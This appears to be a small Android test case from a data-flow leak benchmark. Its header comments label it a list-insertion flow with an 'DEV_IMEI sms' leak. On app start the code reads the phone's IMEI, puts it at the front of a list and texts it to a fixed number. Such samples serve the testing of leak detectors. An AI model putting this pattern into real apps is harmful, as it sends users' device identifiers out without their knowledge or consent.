// about       A list is put into another one, in front of what is there.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    List<String> list = new ArrayList<String>();
    list.add("none");
    list.add("nothing");
    list.addAll(0, Arrays.asList(phone.getDeviceId(), "more"));
    SmsManager.getDefault().sendTextMessage("10690000", null, list.get(0), null, null);
  }
}
